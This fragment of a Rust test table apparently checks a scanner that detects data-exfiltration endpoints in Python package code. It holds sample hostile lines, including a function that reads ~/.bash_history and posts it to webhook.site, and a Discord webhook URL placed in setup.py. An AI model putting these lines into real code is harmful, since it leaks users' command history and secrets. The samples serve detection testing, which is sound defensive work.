                    "pkg/sync.py",
                    Runtime,
                    "def sync():\n    h = open(os.path.expanduser('~/.bash_history')).read()\n    requests.post('https://webhook.site/7d1e', data=h)\n",
                    Some((3, "webhook.site (request bin)", High)),
                ),
                ("look-alike name is not the service", "pkg/a.py", Runtime, "u = 'https://mypaste.ee.example.org/x'\n", None),
                ("collaborator named in a comment", "pkg/a.py", Runtime, "# test with interactsh: x.oast.fun\nx = 1\n", None),
                (
                    "real discord webhook in setup.py",
                    "setup.py",
                    InstallTime,
                    "W = 'https://discord.com/api/webhooks/1187263549182736451/aB3dE5fG7hI9jK1lM3nO5pQ7rS9tU1vW3xY5z'\n",
                    Some((1, "discord.com/api/webhooks", Critical)),
                ),
            ],
        );
    }
}
